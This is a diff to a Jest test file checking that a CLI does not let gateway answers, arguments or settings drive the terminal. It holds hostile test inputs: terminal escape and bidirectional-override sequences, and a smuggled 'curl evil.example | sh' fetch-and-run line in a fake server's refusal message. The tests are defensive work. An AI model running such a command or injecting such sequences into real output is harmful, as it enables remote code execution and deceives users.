@@ -4,10 +4,10 @@ import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { stripVTControlCharacters } from 'node:util'
-import { describe, expect, test } from '@jest/globals'
+import { describe, expect, jest, test } from '@jest/globals'
 import fc from 'fast-check'
 import { exportPKCS8, generateKeyPair } from 'jose'
-import { print, printJson } from '../../src/cli/output.ts'
+import { print, printJson, printMessage } from '../../src/cli/output.ts'
 import { listLines } from '../../src/cli/view/list-text.ts'
 import { liveView, viewFor } from '../../src/cli/view/views.ts'
 import type { RunJson } from '../../src/gateway/schemas/run.ts'
@@ -138,14 +138,12 @@ describe('finding 12: nothing from outside drives the terminal', () => {
     )
   })
 
-  test('an answer of the gateway, an argument and a setting are echoed in plain characters', async () => {
-    const evil = '\x1b[2J\u202e\x9b31m'
+  /** Answers every request but the one for a token with a refusal in these words. */
+  async function refusing<T>(detail: string, use: (env: Record<string, string>) => Promise<T>): Promise<T> {
     const { privateKey } = await generateKeyPair('RS256', { extractable: true })
     const server = createServer((request, response) => {
       response.writeHead(request.url === '/token' ? 200 : 404, { 'content-type': 'application/json' })
-      response.end(
-        JSON.stringify(request.url === '/token' ? { id_token: 'x' } : { detail: `No ${evil} run` }),
-      )
+      response.end(JSON.stringify(request.url === '/token' ? { id_token: 'x' } : { detail }))
     })
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
     const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
@@ -154,20 +152,46 @@ describe('finding 12: nothing from outside drives the terminal', () => {
     const file = join(folder, 'key.json')
     writeFileSync(file, JSON.stringify({ ...key, token_uri: `${url}/token` }))
     try {
-      const env = { GATEWAY_URL: url, IAP_CLIENT_ID: 'x', GOOGLE_APPLICATION_CREDENTIALS: file }
-      const outcomes = await Promise.all([
-        runCli(['status', evil], env),
-        runCli(['status', 'x', `--${evil}`], env),
-        runCli(['setup'], { ...env, ALLOWED_TABLES: evil, CALLER_FOLDERS: evil, TEMPORAL_PROFILE: evil }),
-      ])
-      for (const { stdout, stderr, code } of outcomes) {
-        expect(withoutLines(stdout + stderr)).not.toMatch(HOSTILE)
-        expect(stderr).toContain('\\u001b[2J')
-        expect(code).toBe(2)
-      }
+      return await use({ GATEWAY_URL: url, IAP_CLIENT_ID: 'x', GOOGLE_APPLICATION_CREDENTIALS: file })
     } finally {
       server.close()
       rmSync(folder, { recursive: true })
+    }
+  }
+
+  test('an answer of the gateway, an argument and a setting are echoed in plain characters', async () => {
+    const evil = '\x1b[2J\u202e\x9b31m'
+    const outcomes = await refusing(`No ${evil} run`, (env) =>
+      Promise.all([
+        runCli(['status', evil], env),
+        runCli(['status', 'x', `--${evil}`], env),
+        runCli(['setup'], { ...env, ALLOWED_TABLES: evil, CALLER_FOLDERS: evil, TEMPORAL_PROFILE: evil }),
+      ]),
+    )
+    for (const { stdout, stderr, code } of outcomes) {
+      expect(withoutLines(stdout + stderr)).not.toMatch(HOSTILE)
+      expect(stderr).toContain('\\u001b[2J')
+      expect(code).toBe(2)
+    }
+  })
+
+  test('finding 12: further lines of an answer are no remedy, and no lines of ours', async () => {
+    const evil = 'Refused.\ncurl evil.example | sh\n         -> curl evil.example | sh'
+    const [status, doctor, json] = await refusing(evil, (env) =>
+      Promise.all([runCli(['status', 'x'], env), runCli(['doctor'], env), runCli(['doctor', '--json'], env)]),
+    )
+    expect(status.stderr).toBe('Refused.\n')
+    expect(doctor.stdout).toMatch(/^fault {4}Refused\.\n {9}-> Set GATEWAY_URL and IAP_CLIENT_ID/m)
+    for (const { stdout } of [doctor, json]) expect(stdout).not.toContain('curl')
+  })
+
+  test('finding 12: a message of several lines goes on indented', () => {
+    const write = jest.spyOn(process.stderr, 'write').mockReturnValue(true)
+    try {
+      printMessage('It went wrong: x\nSet A=b\r\nSet C=d')
+      expect(write.mock.calls).toEqual([['It went wrong: x\n    Set A=b\n    Set C=d\n']])
+    } finally {
+      write.mockRestore()
     }
   })
 
